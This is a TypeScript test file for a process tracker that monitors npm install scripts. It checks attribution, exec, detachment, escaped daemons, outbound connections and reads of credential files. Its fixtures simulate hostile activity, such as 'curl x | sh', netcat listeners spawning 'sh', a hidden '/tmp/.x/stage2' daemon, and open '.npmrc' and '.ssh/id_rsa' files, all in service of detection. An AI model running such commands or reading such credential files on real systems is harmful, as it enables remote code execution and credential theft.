// The proc tracer's process bookkeeping against a scripted process table:
// attribution, exec, exit, detach, escaped daemons, sockets, open credential files.
import { beforeEach, describe, expect, it } from 'vitest';
import type { GuardedEvent, LifecycleScript } from '../../../src/events/types.js';
import { ProcessTracker } from '../../../src/tracers/proc/tracker.js';
import { FakeSource, fakeScript, ofKind, tcp } from './helpers.js';

const RUN = '/tmp/run';
const NPM = 50;
const SHIM = 60;

interface Setup {
  src: FakeSource;
  events: GuardedEvent[];
  tracker: ProcessTracker;
  scripts: Map<number, LifecycleScript>;
  clock: { now: number };
}

function setup(): Setup {
  const src = new FakeSource();
  src.add(1, 0, { comm: 'init', startMs: 0 });
  src.add(10, 1, { comm: 'bash', startMs: 100 });
  src.add(NPM, 10, { args: ['npm', 'install'], startMs: 500 });
  const events: GuardedEvent[] = [];
  const scripts = new Map<number, LifecycleScript>();
  const byId = new Map<string, LifecycleScript>();
  const clock = { now: 2000 };
  const tracker = new ProcessTracker(src, {
    runDir: RUN,
    npmPid: NPM,
    scriptById: (id) => byId.get(id),
    scriptByRootPid: (pid) => scripts.get(pid),
    emit: (e) => events.push(e),
    now: () => clock.now,
  });
  const s = fakeScript('60', SHIM);
  scripts.set(SHIM, s);
  byId.set(s.id, s);
  return { src, events, tracker, scripts, clock };
}

function startScript(src: FakeSource, at = 1500): void {
  src.add(SHIM, NPM, { args: ['/bin/sh', '/shim.sh', '-c', 'node install.js'], startMs: at });
  src.add(61, SHIM, { args: ['/bin/sh', '-c', 'node install.js'], startMs: at + 5 });
  src.add(62, 61, { args: ['node', 'install.js'], startMs: at + 10, cwd: '/w/node_modules/evil' });
}

describe('ProcessTracker', () => {
  let t: Setup;
  beforeEach(() => {
    t = setup();
  });

  it("reports the script's processes, not the shim, dated by their real start", () => {
    startScript(t.src);
    t.tracker.poll();
    const starts = ofKind(t.events, 'process-start');
    expect(starts.map((e) => e.process.pid)).toEqual([61, 62]);
    expect(starts[1]).toMatchObject({
      '@timestamp': new Date(1510).toISOString(),
      process: { pid: 62, parent: { pid: 61 }, executable: '/usr/bin/node', name: 'node', args: ['node', 'install.js'], working_directory: '/w/node_modules/evil' },
      package: { name: 'pkg-60' },
      npm: { script_id: '60', ancestry: [61, SHIM] },
    });
    expect(starts[0]?.npm.ancestry).toEqual([SHIM]);
    expect(t.tracker.liveProcesses().map((p) => p.process.pid).sort()).toEqual([SHIM, 61, 62]);
    expect(t.tracker.counts.processesSeen).toBe(3);
  });

  it('dates a process first seen late no earlier than the previous poll', () => {
    t.tracker.poll();
    t.clock.now = 3000;
    startScript(t.src, 1000); // a coarse clock (ps) put it before the last poll
    t.tracker.poll();
    expect(ofKind(t.events, 'process-start').every((e) => e['@timestamp'] === new Date(2000).toISOString())).toBe(true);
  });

  it('never reports the shim, also when first seen as a fork of npm before its exec', () => {
    const shim = t.src.add(SHIM, NPM, { args: ['npm', 'install'], startMs: 1500 });
    shim.info.imageKey = t.src.procs.get(NPM)!.info.imageKey;
    t.tracker.poll();
    t.src.exec(SHIM, ['/bin/sh', '/shim.sh', '-c', 'node install.js']);
    t.tracker.poll();
    expect(t.events).toEqual([]);
    expect(t.tracker.liveProcesses().map((p) => p.process.pid)).toEqual([SHIM]);
  });

  it('holds a tree until its script is known, then reports it, ended processes too', () => {
    const script = t.scripts.get(SHIM)!;
    t.scripts.delete(SHIM);
    startScript(t.src);
    t.src.add(63, 62, { args: ['curl', 'http://x'], startMs: 1600 });
    t.tracker.poll();
    t.src.remove(63);
    t.tracker.poll();
    expect(t.events).toEqual([]);
    expect(t.tracker.liveProcesses()).toEqual([]);
    t.scripts.set(SHIM, script);
    t.tracker.poll();
    expect(t.events.map((e) => `${e.kind}:${e.process.pid}`)).toEqual(['process-start:61', 'process-start:62', 'process-start:63', 'process-end:63']);
    expect(ofKind(t.events, 'process-start')[2]?.npm.ancestry).toEqual([62, 61, SHIM]);
  });

  it('never reports processes of npm that no script started', () => {
    t.src.add(70, NPM, { args: ['git', 'ls-remote'], startMs: 1500 });
    t.tracker.poll();
    t.src.remove(70);
    t.tracker.poll();
    expect(t.events).toEqual([]);
  });

  it('reports an exec as a new start, and a fork that has not exec yet as nothing', () => {
    startScript(t.src);
    t.tracker.poll();
    t.events.length = 0;
    const fork = t.src.add(64, 62, { args: ['node', 'install.js'], startMs: 1700 });
    fork.info.imageKey = t.src.procs.get(62)!.info.imageKey;
    t.tracker.poll();
    expect(t.events).toEqual([]);
    t.clock.now = 2100;
    t.src.exec(64, ['/bin/sh', '-c', 'curl x | sh']);
    t.tracker.poll();
    const [start] = ofKind(t.events, 'process-start');
    expect(start).toMatchObject({ '@timestamp': new Date(2100).toISOString(), process: { pid: 64, name: 'sh', args: ['/bin/sh', '-c', 'curl x | sh'], parent: { pid: 62 } }, npm: { ancestry: [62, 61, SHIM] } });
  });

  it('ends a process when it vanishes or turns zombie, once, with its uptime', () => {
    startScript(t.src);
    t.tracker.poll();
    t.clock.now = 2500;
    t.src.procs.get(62)!.info.state = 'Z';
    t.tracker.poll();
    t.tracker.poll();
    t.src.remove(62);
    t.tracker.poll();
    const ends = ofKind(t.events, 'process-end');
    expect(ends).toHaveLength(1);
    expect(ends[0]?.process).toMatchObject({ pid: 62, uptime_ms: 2500 - 1510 });
    expect(ends[0]?.process.exit_code).toBeUndefined();
  });

  it('reports a process seen only as a zombie by its kernel name', () => {
    startScript(t.src);
    t.src.add(65, 62, { args: ['curl'], startMs: 1900, state: 'Z' });
    t.tracker.poll();
    const start = ofKind(t.events, 'process-start').find((e) => e.process.pid === 65);
    expect(start?.process).toMatchObject({ executable: 'curl', name: 'curl', args: ['curl'] });
    expect(ofKind(t.events, 'process-end').map((e) => e.process.pid)).toEqual([65]);
  });

  it('reports setsid once per new session, on the first process seen in it', () => {
    startScript(t.src);
    t.tracker.poll();
    t.src.procs.get(62)!.info.sid = 62;
    t.tracker.poll();
    t.src.add(66, 62, { args: ['sleep', '99'], startMs: 1950, sid: 62 });
    t.tracker.poll();
    // a grandchild in a session whose leader we never saw
    t.src.add(67, 61, { args: ['nc', '-l'], startMs: 1960, sid: 4242 });
    t.src.add(68, 67, { args: ['sh'], startMs: 1970, sid: 4242 });
    t.tracker.poll();
    expect(ofKind(t.events, 'process-detach').map((e) => e.process.pid)).toEqual([62, 67]);
  });

  it('finds a daemon that escaped the tree by its environment, and only reads environments worth reading', () => {
    startScript(t.src);
    t.tracker.poll();
    t.src.calls.environ.length = 0;
    t.src.add(80, 1, { args: ['/tmp/.x/stage2'], startMs: 1800, sid: 80, env: { runDir: RUN, scriptId: '60' } });
    t.src.add(81, 80, { args: ['sleep', '1'], startMs: 1810, sid: 80 });
    t.src.add(90, 1, { args: ['other'], startMs: 1800, env: { runDir: '/tmp/another-run', scriptId: '60' } });
    t.src.add(91, 90, { args: ['child'], startMs: 1810 });
    t.src.add(92, 10, { args: ['vim'], startMs: 1820 });
    t.src.add(11, 1, { args: ['old'], startMs: 200 }); // older than npm
    t.src.add(12, 2, { args: ['kworker'], startMs: 1900 });
    t.tracker.poll();
    expect(t.src.calls.environ.sort((a, b) => a - b)).toEqual([80, 90, 92]);
    const starts = ofKind(t.events, 'process-start').filter((e) => e.process.pid >= 80);
    expect(starts.map((e) => [e.process.pid, e.npm.script_id, e.npm.ancestry])).toEqual([[80, '60', [SHIM]], [81, '60', [80, SHIM]]]);
    expect(ofKind(t.events, 'process-detach').map((e) => e.process.pid)).toEqual([80]);
    // no environment read twice
    t.tracker.poll();
    expect(t.src.calls.environ).toHaveLength(3);
  });

  it('reports each new connection once per process, asks the tables once per socket', () => {
    startScript(t.src);
    t.src.sockets.set('501', tcp('203.0.113.45', 443, 'SYN_SENT'));
    t.src.sockets.set('502', null); // a unix socket
    t.src.procs.get(62)!.fds = { sockets: ['501', '502'], files: [] };
    t.tracker.poll();
    t.tracker.poll();
    // a child holding the same socket (nc -e sh): it has the connection too
    t.src.add(69, 62, { args: ['/bin/sh'], startMs: 1990 }).fds = { sockets: ['501', '502'], files: [] };
    t.tracker.poll();
    const conns = ofKind(t.events, 'network-connect');
    expect(conns.map((e) => e.process.pid)).toEqual([62, 69]);
    expect(conns[0]).toMatchObject({
      event: { outcome: 'unknown' },
      destination: { ip: '203.0.113.45', port: 443, address: '203.0.113.45' },
      network: { transport: 'tcp', type: 'ipv4' },
      syscall: { name: 'connect', result: 'SYN_SENT' },
      process: { pid: 62, name: 'node' },
      npm: { script_id: '60', ancestry: [61, SHIM] },
    });
    expect(t.src.calls.connections).toEqual([['501', '502']]);
    expect(t.tracker.counts.connectionsSeen).toBe(2);
  });

  it('asks again for a socket not yet connected, a few polls, then gives up', () => {
    startScript(t.src);
    t.src.procs.get(62)!.fds = { sockets: ['700', '701'], files: [] };
    t.tracker.poll();
    t.src.sockets.set('700', tcp('198.51.100.7', 80));
    for (let i = 0; i < 8; i++) t.tracker.poll();
    expect(ofKind(t.events, 'network-connect').map((e) => e.destination.ip)).toEqual(['198.51.100.7']);
    expect(t.src.calls.connections.map((c) => c.join())).toEqual(['700,701', '700,701', '701', '701', '701']);
  });

  it('ignores accepted connections (strace does not report accept either)', () => {
    startScript(t.src);
    t.src.sockets.set('800', tcp('203.0.113.9', 5555, 'ESTABLISHED', true));
    t.src.procs.get(62)!.fds = { sockets: ['800'], files: [] };
    t.tracker.poll();
    expect(ofKind(t.events, 'network-connect')).toEqual([]);
  });

  it('reports a credential file held open, once per process, and remembers who had files open', () => {
    startScript(t.src);
    t.src.procs.get(62)!.fds = { sockets: [], files: ['/home/u/.npmrc', '/w/node_modules/evil/install.js', '/home/u/.ssh/id_rsa'] };
    t.tracker.poll();
    t.tracker.poll();
    expect(ofKind(t.events, 'sensitive-read').map((e) => [e.process.pid, e.file.path, e.event.outcome])).toEqual([[62, '/home/u/.npmrc', 'success'], [62, '/home/u/.ssh/id_rsa', 'success']]);
    expect(t.tracker.openedBy('/w/node_modules/evil/install.js')).toMatchObject({ pid: 62, script: { id: '60' } });
    expect(t.tracker.processesIn('/w/node_modules/evil').map((p) => p.process.pid)).toEqual([62]);
  });

  it('knows a pid is ours only while the very process lives', () => {
    startScript(t.src);
    t.tracker.poll();
    expect(t.tracker.isOurs(62)).toBe(true);
    expect(t.tracker.isOurs(10)).toBe(false); // alive, not a script's
    expect(t.tracker.isOurs(NPM)).toBe(false);
    // the pid is reused before our next poll
    t.src.remove(62);
    t.src.add(62, 10, { args: ['vim'], startMs: 2500 });
    expect(t.tracker.isOurs(62)).toBe(false);
    t.tracker.poll();
    expect(ofKind(t.events, 'process-end').map((e) => e.process.pid)).toEqual([62]);
    expect(t.tracker.isOurs(62)).toBe(false);
    expect(ofKind(t.events, 'process-start').filter((e) => e.process.pid === 62)).toHaveLength(1);
  });

  it('tells the shim from a process that reuses its pid after the script ended', () => {
    const script = t.scripts.get(SHIM)!;
    startScript(t.src);
    t.tracker.poll();
    for (const pid of [62, 61, SHIM]) t.src.remove(pid);
    t.tracker.poll();
    expect(t.tracker.rootEnded(script)).toBe(true);
    script.endedAt = 2100;
    t.src.add(SHIM, 10, { args: ['vim'], startMs: 2600 });
    t.clock.now = 2700;
    const before = t.events.length;
    t.tracker.poll();
    expect(t.events.length).toBe(before);
    expect(t.tracker.isOurs(SHIM)).toBe(false);
  });
});
